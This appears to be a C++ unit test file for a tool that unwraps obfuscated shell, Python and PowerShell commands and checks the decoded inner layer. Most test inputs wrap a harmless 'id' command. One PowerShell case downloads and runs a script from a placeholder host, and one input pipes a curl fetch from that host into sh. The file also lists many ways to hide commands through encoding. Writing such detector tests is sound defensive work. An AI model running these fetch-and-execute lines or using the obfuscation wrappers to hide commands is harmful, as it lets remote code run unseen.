#include <gtest/gtest.h>

#include <ostream>
#include <string>
#include <string_view>

#include "shell/commands.h"
#include "unwrap/unwrap.h"

// What shell commands run that they do not show: how it is put together, and which layer that leads to.
namespace pyverdict::unwrap {
namespace {

struct ShellCase {
  std::string_view name;
  std::string_view text;
  LayerKind kind;
  std::string_view via;
  std::string_view layer;
};

void PrintTo(const ShellCase& row, std::ostream* out) { *out << row.name; }

constexpr ShellCase kCases[] = {
    {"BackticksVariable", R"sh(export D="aWQgPiAvdG1wL3g="
bash -c "`echo "$D" | base64 -d`"
)sh",
     LayerKind::Shell, "bash base64", R"sh(id > /tmp/x)sh"},
    {"Braces", R"sh(bash -c "{echo,aWQgPiAvdG1wL3g=}|{base64,-d}|{bash,-i}"
)sh",
     LayerKind::Shell, "bash base64", R"sh(id > /tmp/x)sh"},
    {"CodeOfSubstitution", R"sh(bash -c "$(echo aWQgPiAvdG1wL3g= | base64 -d)"
)sh",
     LayerKind::Shell, "bash base64", R"sh(id > /tmp/x)sh"},
    {"EchoEscapes", R"sh(echo -e '\x69\x64' | bash
)sh",
     LayerKind::Shell, "bash escapes", R"sh(id)sh"},
    {"EchoPython", R"sh(echo "import os; os.system('id')" | python3
)sh",
     LayerKind::Python, "python3", R"sh(import os; os.system('id'))sh"},
    {"Eval", R"sh(eval "$(echo aWQgPiAvdG1wL3g= | base64 --decode)"
)sh",
     LayerKind::Shell, "eval base64", R"sh(id > /tmp/x)sh"},
    {"Gunzip", R"sh(echo H4sIAAAAAAAAA8tMUbBT0C/JLdCvAAAqMM5uCwAAAA== | base64 -d | gunzip -c | bash
)sh",
     LayerKind::Shell, "bash gzip base64", R"sh(id > /tmp/x)sh"},
    {"HereDocumentFile", R"sh(cat > /tmp/a.py <<EOF
import os
os.system("id")
EOF
python3 /tmp/a.py
)sh",
     LayerKind::Python, "python3 written file",
     R"sh(import os
os.system("id")
)sh"},
    {"HereDocumentPiped", R"sh(base64 -d <<EOF | bash
aWQgPiAvdG1wL3g=
EOF
)sh",
     LayerKind::Shell, "bash base64", R"sh(id > /tmp/x)sh"},
    {"HereDocumentPython", R"sh(python3 <<'EOF'
import os
os.system("id")
EOF
)sh",
     LayerKind::Python, "python3",
     R"sh(import os
os.system("id")
)sh"},
    {"HereString", R"sh(base64 -d <<< aWQgPiAvdG1wL3g= | sh
)sh",
     LayerKind::Shell, "sh base64", R"sh(id > /tmp/x)sh"},
    {"HereStringOfSubstitution", R"sh(bash <<< "$(echo aWQgPiAvdG1wL3g= | base64 -d)"
)sh",
     LayerKind::Shell, "bash base64", R"sh(id > /tmp/x)sh"},
    {"OpensslBase64", R"sh(openssl enc -base64 -d <<< aWQgPiAvdG1wL3g= | sh
)sh",
     LayerKind::Shell, "sh base64", R"sh(id > /tmp/x)sh"},
    {"PipedPython", R"sh(echo aW1wb3J0IG9zCm9zLnN5c3RlbSgiaWQiKQ== | base64 -d | python3 -
)sh",
     LayerKind::Python, "python3 base64",
     R"sh(import os
os.system("id"))sh"},
    {"PowerShellCommand",
     R"sh(powershell -Command "IEX (New-Object Net.WebClient).DownloadString('http://h.example.invalid/a.ps1')"
)sh",
     LayerKind::PowerShell, "powershell",
     R"sh(IEX (New-Object Net.WebClient).DownloadString('http://h.example.invalid/a.ps1'))sh"},
    {"PrintfEscapes", R"sh(printf '\x69\x64\x20\x3e\x20\x2f\x74\x6d\x70\x2f\x78' | sh
)sh",
     LayerKind::Shell, "sh printf", R"sh(id > /tmp/x)sh"},
    {"ProcessSubstitution", R"sh(sh <(echo aWQgPiAvdG1wL3g= | base64 -d)
)sh",
     LayerKind::Shell, "sh base64", R"sh(id > /tmp/x)sh"},
    {"PythonCodeOfSubstitution", R"sh(python3 -c "$(echo aW1wb3J0IG9zCm9zLnN5c3RlbSgiaWQiKQ== | base64 -d)"
)sh",
     LayerKind::Python, "python3 base64",
     R"sh(import os
os.system("id"))sh"},
    {"Rev", R"sh(echo =g3Lw1GdvAiPgQWa | rev | base64 -d | sh
)sh",
     LayerKind::Shell, "sh base64 reverse", R"sh(id > /tmp/x)sh"},
    {"SubstitutionAsCommand", R"sh($(printf '\151\144') > /tmp/x
)sh",
     LayerKind::Shell, "sh printf", R"sh(id)sh"},
    {"Sudo", R"sh(echo aWQgPiAvdG1wL3g=|base64 -d|sudo bash -s
)sh",
     LayerKind::Shell, "bash base64", R"sh(id > /tmp/x)sh"},
    {"Translate", R"sh(echo vq | tr 'a-z' 'n-za-m' | sh
)sh",
     LayerKind::Shell, "sh translate", R"sh(id)sh"},
    {"Variable", R"sh(A=aWQgPiAvdG1wL3g=; echo $A | base64 -d | sh
)sh",
     LayerKind::Shell, "sh base64", R"sh(id > /tmp/x)sh"},
    {"VariablesJoined", R"sh(X='echo aWQ'; Y='gPiAvdG1wL3g='; eval $(echo "${X#echo }$Y" | base64 -d)
)sh",
     LayerKind::Shell, "eval base64", R"sh(id > /tmp/x)sh"},
    {"WrittenAndRun", R"sh(echo aWQgPiAvdG1wL3g= | base64 -d > /tmp/.x; chmod +x /tmp/.x; /tmp/.x
)sh",
     LayerKind::Shell, "sh written file base64", R"sh(id > /tmp/x)sh"},
    {"Xxd", R"sh(echo 6964203e202f746d702f78 | xxd -r -p | sh
)sh",
     LayerKind::Shell, "sh hex", R"sh(id > /tmp/x)sh"},
};

class ShellCode : public testing::TestWithParam<ShellCase> {};

TEST_P(ShellCode, BecomesALayer) {
  const ShellCase& row = GetParam();
  const Program program = unwrap(std::string(row.text), LayerKind::Shell);
  ASSERT_GE(program.layers.size(), 2u);
  const Layer& layer = program.layers[1];
  std::string via;
  for (const std::string& step : layer.via) via += (via.empty() ? "" : " ") + step;
  EXPECT_EQ(via, row.via);
  EXPECT_EQ(layer.kind, row.kind);
  EXPECT_EQ(layer.text, row.layer);
  EXPECT_TRUE(layer.complete);
}

INSTANTIATE_TEST_SUITE_P(Cases, ShellCode, testing::ValuesIn(kCases),
                         [](const testing::TestParamInfo<ShellCase>& row) {
                           return std::string(row.param.name);
                         });

TEST(ShellCodeBounds, WhatIsNotKnownIsNoLayer) {
  constexpr std::string_view kTexts[] = {
      "echo $UNKNOWN | base64 -d | sh",
      "cat /etc/motd | sh",
      "curl http://h.example.invalid | sh",
      "for A in x y; do eval $A; done",
      "read A; echo $A | bash",
      "bash -c 'echo hello'",
      "eval 'echo hello'",
      "echo aWQ= | base64 -d",
      "A=$(date); echo \"$A\" | sh",
      "python3 script.py < data",
      "echo '{\"a\": 1}' | jq .a",
  };
  for (const std::string_view text : kTexts) {
    EXPECT_EQ(unwrap(std::string(text), LayerKind::Shell).layers.size(), 1u) << text;
  }
}

TEST(ShellCodeBounds, CutOffDataIsNotComplete) {
  const Program program =
      unwrap("echo H4sIAAAAAAAAA8tMUbBT0C/JLdCvAAAqMM5u | base64 -d | gunzip -c | bash", LayerKind::Shell);
  ASSERT_EQ(program.layers.size(), 2u);
  EXPECT_EQ(program.layers[1].text, "id > /tmp/x");
  EXPECT_FALSE(program.layers[1].complete);
}

struct Expansion {
  std::string_view text;
  std::string_view words;  ///< of the last command, joined by commas
};

// Every text of up to four of the characters that mean something to a shell, behind a variable that is known.
TEST(ShellCodeBounds, CommandsHaveWordsAndAPlaceInTheText) {
  constexpr std::string_view kCharacters = "p=$\n'\"(<>{; &|\\`)0";
  constexpr std::size_t kMost = 4;
  for (std::size_t size = 1; size <= kMost; ++size) {
    std::size_t combinations = 1;
    for (std::size_t i = 0; i < size; ++i) combinations *= kCharacters.size();
    for (std::size_t number = 0; number < combinations; ++number) {
      std::string script = "p=$\n";
      for (std::size_t i = 0, rest = number; i < size; ++i, rest /= kCharacters.size())
        script += kCharacters[rest % kCharacters.size()];
      for (const auto dialect : {shell::ShellDialect::Posix, shell::ShellDialect::PowerShell}) {
        for (const shell::Command& command : shell::read_commands(script, dialect)) {
          ASSERT_FALSE(command.words.empty()) << testing::PrintToString(script);
          ASSERT_LE(command.span.start, command.span.end) << testing::PrintToString(script);
          ASSERT_LE(command.span.end, script.size()) << testing::PrintToString(script);
        }
      }
    }
  }
}

TEST(ShellVariables, AreExpandedWhereTheyAreKnown) {
  constexpr Expansion kExpansions[] = {
      {"A=x; echo $A ${A} \"$A\" '$A' \\$A", "echo,x,x,x,$A,$A"},
      {"A='b c'; echo $A \"$A\"", "echo,b,c,b c"},
      {"A=abcdef; echo ${A:1} ${A:1:2} ${A: -2}", "echo,bcdef,bc,ef"},
      {"A=a.b.c; echo ${A#a.} ${A%.c} ${A//./-} ${A/./-}", "echo,b.c,a.b,a-b-c,a-b.c"},
      {"A=1; A+=2; export B=$A; echo $B$C${D:-x}", "echo,12$C${D:-x}"},
      {"A=1; unset A; echo $A", "echo,$A"},
      {"A=1; for A in x y; do echo $A; done", "done"},
      {"A=$(date); echo $A", "echo,$A"},
      {"a=cu; b=rl; $a$b h", "curl,h"},
      {"curl${IFS}-s${IFS}h", "curl,-s,h"},
      {"echo $'\\x68\\151\\n'", "echo,hi\n"},
      {"{echo,a,-b} {x} '{a,b}'", "echo,a,-b,{x},{a,b}"},
  };
  for (const Expansion& row : kExpansions) {
    const auto commands = shell::read_commands(row.text, shell::ShellDialect::Posix);
    ASSERT_FALSE(commands.empty()) << row.text;
    std::string words;
    for (const std::string& word : commands.back().words) words += (words.empty() ? "" : ",") + word;
    EXPECT_EQ(words, row.words) << row.text;
  }
}

TEST(ShellVariables, DoNotGrowWithoutBound) {
  std::string text = "A=xxxxxxxxxxxxxxxx\n";
  for (int i = 0; i < 200; ++i) text += "A=$A$A\n";
  text += "echo $A\n";
  std::size_t size = 0;
  for (const auto& command : shell::read_commands(text, shell::ShellDialect::Posix)) {
    for (const std::string& word : command.words) size += word.size();
  }
  EXPECT_LT(size, 8u * 1024 * 1024);
}

}  // namespace
}  // namespace pyverdict::unwrap
